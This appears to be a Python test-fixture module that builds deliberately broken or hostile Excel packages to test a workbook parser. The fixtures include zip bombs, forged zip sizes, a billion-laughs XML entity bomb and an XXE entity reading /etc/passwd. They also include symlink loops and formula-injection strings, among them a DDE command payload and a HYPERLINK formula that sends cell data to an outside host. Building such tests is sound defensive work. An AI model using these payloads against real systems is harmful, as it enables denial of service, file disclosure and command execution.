"""Package surgery for the hostile cases: rebuild the example workbook with one thing wrong.

Builders take a path and write one input there; the ``*_edit`` helpers return such builders
from an edit of one member's bytes. Bombs are compressed while streaming, so no large buffer
is ever built.
"""

from __future__ import annotations

import io
import re
import struct
import warnings
import zipfile
from collections.abc import Callable, Iterable, Mapping
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
EXAMPLE = REPO / "iku_excel" / "data" / "IKU_Dinsos_Kota_Jambi_2023.xlsx"
IKU = "xl/worksheets/sheet4.xml"
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
MiB = 1024 * 1024


def members(path: Path = EXAMPLE) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def write_zip(
    path: Path,
    parts: Iterable[tuple[str, bytes]] | Mapping[str, bytes],
    method: int = zipfile.ZIP_DEFLATED,
) -> None:
    """A zip of ``parts`` (duplicates allowed) at deflate level 9."""
    items = parts.items() if isinstance(parts, Mapping) else parts
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name" is the point of some cases
        with zipfile.ZipFile(path, "w", method, compresslevel=9) as archive:
            for name, data in items:
                archive.writestr(name, data)


def edited(changes: Mapping[str, bytes | None], base: Path = EXAMPLE) -> Callable[[Path], None]:
    """A builder: the base package with members replaced, added, or (None) removed."""

    def build(path: Path) -> None:
        parts = members(base)
        for name, data in changes.items():
            if data is None:
                parts.pop(name, None)
            else:
                parts[name] = data
        write_zip(path, parts)

    return build


def sheet_edit(edit: Callable[[bytes], bytes], part: str = IKU) -> Callable[[Path], None]:
    return edited({part: edit(members()[part])})


def with_streamed_member(
    name: str, size: int, method: int = zipfile.ZIP_DEFLATED, fill: bytes = b" "
) -> Callable[[Path], None]:
    """The example plus one member of ``size`` bytes of ``fill``, compressed while streaming."""

    def build(path: Path) -> None:
        write_zip(path, members())
        with zipfile.ZipFile(path, "a", method, compresslevel=9) as archive:
            info = zipfile.ZipInfo(name)
            info.compress_type = method
            with archive.open(info, "w", force_zip64=size > 2**31) as handle:
                chunk = fill * (MiB // len(fill))
                for _ in range(size // MiB):
                    handle.write(chunk)

    return build


def padded_sheet(size: int) -> Callable[[Path], None]:
    """The IKU sheet with ``size`` bytes of whitespace before ``</sheetData>``."""

    def build(path: Path) -> None:
        parts = members()
        head, tail = parts.pop(IKU).split(b"</sheetData>")
        write_zip(path, parts)
        with (
            zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
            archive.open(IKU, "w", force_zip64=True) as handle,
        ):
            handle.write(head)
            chunk = b" " * MiB
            for _ in range(size // MiB):
                handle.write(chunk)
            handle.write(b"</sheetData>" + tail)

    return build


def declared_sizes(name: str, size: int) -> Callable[[Path], None]:
    """The example with the central directory claiming ``size`` bytes for member ``name``."""

    def build(path: Path) -> None:
        buffer = io.BytesIO()
        write_zip(buffer, members(), zipfile.ZIP_STORED)  # type: ignore[arg-type]
        data = bytearray(buffer.getvalue())
        offset = 0
        while (offset := data.find(b"PK\x01\x02", offset)) >= 0:
            name_len = struct.unpack_from("<H", data, offset + 28)[0]
            if data[offset + 46 : offset + 46 + name_len] == name.encode():
                struct.pack_into("<II", data, offset + 20, size, size)
            offset += 4
        path.write_bytes(bytes(data))

    return build


def insert_before(marker: bytes, text: bytes) -> Callable[[bytes], bytes]:
    return lambda xml: xml.replace(marker, text + marker, 1)


def replace_once(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    def edit(xml: bytes) -> bytes:
        assert old in xml, old
        return xml.replace(old, new, 1)

    return edit


def with_doctype(doctype: bytes) -> Callable[[bytes], bytes]:
    """Put a DOCTYPE before the root element (after an XML declaration, if any)."""

    def edit(xml: bytes) -> bytes:
        match = re.match(rb"(<\?xml[^>]*\?>\s*)?", xml)
        end = match.end() if match else 0
        return xml[:end] + doctype + xml[end:]

    return edit


BILLION_LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]>"
)
XXE = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def cell_row(row: int, cells: str) -> bytes:
    return f'<row r="{row}">{cells}</row>'.encode()


def inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def add_rows(*rows: bytes) -> Callable[[bytes], bytes]:
    return insert_before(b"</sheetData>", b"".join(rows))


def raw(data: bytes) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(data)


def truncated(fraction: float) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        data = EXAMPLE.read_bytes()
        path.write_bytes(data[: int(len(data) * fraction)])

    return build


def ole(streams: Mapping[str, bytes]) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        from tests.helpers.xlsx_build import ole_file

        path.write_bytes(ole_file(streams))

    return build


_INLINE = re.compile(rb'(<c [^>]*?)t="inlineStr"([^>]*)><is><t(?: [^>]*)?>([^<]*)</t></is></c>')


def shared_strings_base(path: Path) -> None:
    """The example with its inline strings moved into ``xl/sharedStrings.xml`` (as Excel saves)."""
    parts = members()
    table: dict[bytes, int] = {}

    def to_shared(match: re.Match[bytes]) -> bytes:
        index = table.setdefault(match.group(3), len(table))
        return match.group(1) + b't="s"' + match.group(2) + b"><v>%d</v></c>" % index

    for name in list(parts):
        if name.startswith("xl/worksheets/sheet"):
            parts[name] = _INLINE.sub(to_shared, parts[name])
    items = b"".join(b"<si><t>" + text + b"</t></si>" for text in table)
    parts["xl/sharedStrings.xml"] = (
        f'<sst xmlns="{MAIN_NS}" count="{len(table)}" uniqueCount="{len(table)}">'.encode()
        + items
        + b"</sst>"
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    write_zip(path, parts)


def sst_edit(edit: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        shared_strings_base(path)
        parts = members(path)
        parts["xl/sharedStrings.xml"] = edit(parts["xl/sharedStrings.xml"])
        write_zip(path, parts)

    return build


def sst_sheet_edit(edit: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    """Edit the IKU sheet of the shared-strings variant (openpyxl names it sheet4.xml too)."""

    def build(path: Path) -> None:
        shared_strings_base(path)
        parts = members(path)
        parts[IKU] = edit(parts[IKU])
        write_zip(path, parts)

    return build


def folder(path: Path) -> None:
    path.mkdir()


def symlink_loop(path: Path) -> None:
    other = path.with_name("lingkaran.xlsx")
    other.symlink_to(path.name)
    path.symlink_to(other.name)


def dangling_symlink(path: Path) -> None:
    path.symlink_to("tidak-ada.xlsx")


def symlink_to_example(path: Path) -> None:
    target = path.with_name("asli.xlsx")
    target.write_bytes(EXAMPLE.read_bytes())
    path.symlink_to(target.name)


def copy_example(path: Path) -> None:
    path.write_bytes(EXAMPLE.read_bytes())


def many_members(count: int) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        parts = list(members().items())
        parts += [(f"customXml/item{i}.xml", b"<a/>") for i in range(count)]
        write_zip(path, parts)

    return build


def duplicated(name: str, copies: int, data: bytes | None = None) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        parts = list(members().items())
        original = dict(parts)[name]
        parts += [(name, original if data is None else data)] * copies
        write_zip(path, parts)

    return build


def case_renamed(name: str, renamed: str) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        parts = list(members().items())
        parts.append((renamed, dict(parts)[name]))
        write_zip(path, parts)

    return build


def with_method(name: str, method: int) -> Callable[[Path], None]:
    """The example with member ``name`` re-compressed by ``method`` (bzip2, lzma)."""

    def build(path: Path) -> None:
        parts = members()
        data = parts.pop(name)
        write_zip(path, parts)
        with zipfile.ZipFile(path, "a", method) as archive:
            archive.writestr(name, data)

    return build


def encrypted_zip_flag(path: Path) -> None:
    """Every member flagged as zip-encrypted (general purpose bit 0)."""
    buffer = io.BytesIO()
    write_zip(buffer, members())  # type: ignore[arg-type]
    data = bytearray(buffer.getvalue())
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        offset = 0
        while (offset := data.find(signature, offset)) >= 0:
            data[offset + flag_at] |= 0x1
            offset += 4
    path.write_bytes(bytes(data))


def prefixed(prefix: bytes) -> Callable[[Path], None]:
    """Bytes before the zip (a self-extractor stub); zip readers find the directory anyway."""
    return lambda path: path.write_bytes(prefix + EXAMPLE.read_bytes())


def deep_nesting(depth: int) -> Callable[[bytes], bytes]:
    ext = (
        b'<extLst><ext uri="{00000000-0000-0000-0000-000000000000}">'
        + b"<x:a xmlns:x='urn:x'>" * depth
        + b"</x:a>" * depth
        + b"</ext></extLst>"
    )
    return insert_before(b"</worksheet>", ext)


CT_DOCX = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
CT_XLSX = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
CT_XLSB = b"application/vnd.ms-excel.sheet.binary.macroEnabled.main"

INJECTIONS = [
    '=HYPERLINK("http://contoh.invalid/?"&amp;A1,"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
]


def injected_indicator(path: Path) -> None:
    texts = iter(INJECTIONS)
    xml = members()[IKU]
    for old in (
        b"Persentase pelayanan korban bencana alam dan sosial yang tertangani",
        b"Persentase PMKS terlantar diluar panti yang tertangani",
    ):
        xml = xml.replace(old, next(texts).encode(), 1)
    xml = xml.replace(b"<t>1.1</t>", f"<t>{next(texts)}</t>".encode(), 1)
    xml = xml.replace(b"<t>%</t>", f"<t>{next(texts)}</t>".encode(), 1)
    edited({IKU: xml})(path)


def long_text(length: int) -> Callable[[bytes], bytes]:
    return replace_once(
        b"Persentase pelayanan korban bencana alam dan sosial yang tertangani",
        b"Panjang " + b"x" * length,
    )


def long_varied_text(length: int) -> Callable[[bytes], bytes]:
    """Like :func:`long_text`, with letters that do not compress far (a seeded random run)."""
    import random

    letters = bytes(random.Random(8).choices(b"abcdefghijklmnopqrstuvwxyz ", k=length))
    return replace_once(
        b"Persentase pelayanan korban bencana alam dan sosial yang tertangani",
        b"Panjang " + letters,
    )
